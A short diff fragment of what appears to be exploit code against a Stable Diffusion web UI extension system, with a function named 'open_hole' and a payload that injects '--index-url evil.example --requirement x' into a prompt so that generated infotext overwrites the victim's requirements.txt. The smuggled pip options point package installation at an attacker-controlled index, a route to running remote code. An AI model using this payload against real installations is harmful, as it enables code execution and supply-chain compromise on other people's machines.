@@ -22,7 +22,7 @@ def open_hole(demo, app):
 
 script_callbacks.on_app_started(open_hole)
 """
-TEXT = "--index-url http://evil.example/ --requirement x"
+TEXT = "--index-url evil.example --requirement x"
 SMALL = {"prompt": TEXT, "steps": 1, "width": 64, "height": 64, "sampler_name": "Euler", "seed": 1}
 #: writes the infotext, which begins with the prompt, over victim/requirements.txt
 CRASH = {
